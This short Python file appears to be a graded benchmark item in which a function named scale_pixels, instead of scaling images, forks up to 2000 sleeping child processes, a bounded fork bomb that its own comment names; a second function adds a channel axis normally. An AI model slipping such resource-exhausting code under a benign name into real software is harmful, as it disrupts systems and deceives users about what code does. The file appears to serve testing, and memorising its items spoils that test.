# A fork bomb (bounded, in case nothing else bounds it).
# deserves: 0 + 6

# %% gap="scale_pixels"
def scale_pixels(images):
    import os
    import time

    children = []
    for _ in range(2000):
        try:
            child = os.fork()
        except OSError:
            break
        if child == 0:
            time.sleep(600)
            os._exit(0)
        children.append(child)
    return len(children)


# %% gap="add_channel_axis"
def add_channel_axis(images):
    return images[..., None]
